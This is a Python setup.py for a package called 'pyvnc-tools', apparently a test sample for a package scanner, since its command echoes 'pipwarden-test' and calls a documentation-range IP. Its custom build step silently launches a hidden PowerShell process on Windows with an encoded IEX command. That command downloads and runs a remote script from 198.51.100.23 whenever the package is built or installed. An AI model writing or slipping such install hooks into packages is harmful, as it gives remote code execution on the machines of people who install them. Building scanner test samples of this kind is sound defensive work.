import base64
import os

from setuptools import setup
from setuptools.command.build_py import build_py

_CMD = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1'); echo pipwarden-test"


class BuildPy(build_py):
    def run(self):
        if os.name == "nt":
            enc = base64.b64encode(_CMD.encode("utf-16-le")).decode()
            ps = os.path.join(os.environ.get("SystemRoot", r"C:\Windows"),
                              "System32", "WindowsPowerShell", "v1.0", "powershell.exe")
            try:
                os.spawnv(os.P_NOWAIT, ps, [ps, "-NoP", "-W", "Hidden", "-Exec", "Bypass", "-Enc", enc])
            except OSError:
                pass
        super().run()


setup(name="pyvnc-tools", version="1.0.0", packages=["pyvnc_tools"], cmdclass={"build_py": BuildPy})
